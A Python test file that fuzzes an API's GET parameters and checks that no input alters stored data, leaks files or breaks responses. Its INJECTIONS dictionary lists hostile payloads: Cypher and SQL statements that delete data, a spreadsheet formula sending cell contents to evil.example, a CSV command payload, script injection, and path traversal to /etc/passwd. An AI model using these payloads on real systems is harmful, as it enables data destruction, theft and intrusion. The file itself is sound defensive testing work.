"""What is written into a parameter is a value, whatever language it is written in: it has no other effect."""

from __future__ import annotations

import asyncio
import json
import re
import unicodedata
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, unquote

import pytest

from exchange_graph.catalogue.filters import LONGEST_QUERY
from tests.api.everywhere import GETS, Call
from tests.served import Service

INJECTIONS = {
    "Cypher": "'}) DETACH DELETE n //",
    "Cypher call": "x' CALL apoc.load.json('http://127.0.0.1:9/') YIELD value RETURN value //",
    "Cypher parameter": "$ids` RETURN 1 //",
    "Lucene": 'provider:* OR (kind:exchange AND NOT id:[a TO z]) && \\ "~2 ^9 /.*/',
    "Lucene regular expression": "/(((a+)+)+)+b/",
    "FTS5": 'title : a* NEAR(b c) NOT "d" OR ^e -f',
    "FTS5 quotes": '""" OR rowid > 0 --',
    "SQL": "'; DROP TABLE record; --",
    "SQL union": "x' UNION SELECT body FROM record --",
    "CSV formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "CSV command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}}${7*7}%{7*7}#{7*7}",
    "path": "../../../../etc/passwd",
    "path, encoded": "..%2f..%2fetc%2fpasswd\\..\\..\\",
    "header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "format": "%s%s%n{0.__class__}",
    "NUL": "LBR\x00; x",
    "bidirectional": "\u202eRBL\u202c\u2066\u2069\u200f",
    "invisible": "\u200b\ufeff\u2060\u00ad",
    "combining flood": "a" + "\u0301" * 90,
    "emoji": "👩\u200d👩\u200d👧\u200d👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "folding": "ﷺ" * 30 + "İıſK",
    "noncharacter": "\uffff\U0010ffff\ud7ff",
    "long": "x" * 5_000,
}
"""By the language they are written in."""
RAW = {
    "surrogate": "%ED%A0%80",
    "overlong": "%C0%AF%C0%AE",
    "cut off": "%F0%9F%98",
    "latin": "%E9",
    "broken": "%",
}
"""Bytes that are no text, as they stand in an address."""
SERVED_AS = (
    "application/json", "application/problem+json", "text/plain", "text/csv", "application/x-ndjson",
    "application/atom+xml",
)  # fmt: skip


def targets(call: Call) -> Iterator[tuple[str, str]]:
    """Every place of a call that takes words."""
    for place in ("path", "query"):
        for parameter in call.parameters(place):
            schema = parameter["schema"]
            if schema.get("items", schema).get("type", "string") == "string":
                yield place, parameter["name"]


def addresses(call: Call, encoded: str) -> Iterator[str]:
    """The call with the bytes in each place in turn, all else as it should be."""
    for place, name in targets(call):
        if place == "path":
            yield call.path.replace(f"{{{name}}}", encoded)
        else:
            needed = {k: v for k, v in call.needed().items() if k != name}
            pairs = [f"{k}={quote(str(v))}" for k, v in needed.items()]
            yield f"{call.address()}?{'&'.join([*pairs, f'{name}={encoded}'])}"


async def attack(service: Service, call: Call, encoded: str) -> None:
    for address in addresses(call, encoded):
        path, _, query = address.partition("?")
        status, headers, body = await ask(service, path, query)
        assert str(status) in {*call.operation["responses"], "404"}, address
        assert status < 500, address
        assert headers["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in headers
        kind = headers.get("content-type", "").partition(";")[0]
        assert not body or kind in SERVED_AS, address
        if "json" in kind and "ndjson" not in kind:
            json.loads(body)
        assert b"root:" not in body, address


async def ask(service: Service, path: str, query: str) -> tuple[int, dict[str, str], bytes]:
    """The bytes go to the application as they are: clients mend addresses before they send them."""
    raw = path.encode()
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
        "path": unquote(path), "raw_path": raw, "query_string": query.encode(), "root_path": "",
        "headers": [], "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80),
    }  # fmt: skip
    sent: list[Any] = []
    asked = asyncio.Event()

    async def receive() -> Any:
        """The request, once; then nothing, as of a client that waits for its answer."""
        if asked.is_set():
            await asyncio.Event().wait()
        asked.set()
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    await service.app(scope, receive, send)
    headers = {name.decode(): value.decode("latin-1") for name, value in sent[0]["headers"]}
    return sent[0]["status"], headers, b"".join(message.get("body", b"") for message in sent[1:])


ENCODED = [*(quote(value, safe="") for value in INJECTIONS.values()), *RAW.values()]
PARTS = 6
"""Of the values, in fast tests: every call meets one part of them, the next call another."""


@pytest.mark.parametrize(("number", "call"), list(enumerate(GETS)), ids=str)
async def test_what_is_written_into_a_parameter_has_no_effect(
    service: Service, number: int, call: Call
) -> None:
    await _nothing_changes(service, call, ENCODED[number % PARTS :: PARTS])


@pytest.mark.slow
@pytest.mark.parametrize("call", GETS, ids=str)
async def test_nothing_that_is_written_into_any_parameter_has_an_effect(service: Service, call: Call) -> None:
    await _nothing_changes(service, call, ENCODED)


async def _nothing_changes(service: Service, call: Call, values: list[str]) -> None:
    before = await service.store.content_hash(), await service.store.revision()
    for encoded in values:
        await attack(service, call, encoded)
    assert (await service.store.content_hash(), await service.store.revision()) == before


def seen(value: str) -> bool:
    """Whether a reader sees every character, as the interface has it."""
    return not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffd]", value)


@pytest.mark.parametrize("value", INJECTIONS.values(), ids=INJECTIONS)
async def test_no_value_of_a_filter_widens_it(service: Service, value: str) -> None:
    """Words that are no name are refused; signs in words to search by mean no more than the space."""
    for name in ("provider", "sector", "institution", "source", "kind", "cursor"):
        answer = await service.client.get("/v1/exchanges", params={name: value})
        assert answer.status_code == 400, name
    plain = "".join(sign if sign.isalnum() or unicodedata.combining(sign) else " " for sign in value)
    written, meant = [
        await service.client.get("/v1/exchanges", params={"q": words, "limit": "200"})
        for words in (value, plain)
    ]
    refused = not seen(value) or len(value) > LONGEST_QUERY
    assert written.status_code == (400 if refused else 200)
    if not refused:
        assert written.json()["items"] == (meant.json()["items"] if plain.strip() else [])


def test_there_is_something_to_attack() -> None:
    assert len([place for call in GETS for place in targets(call)]) > 100
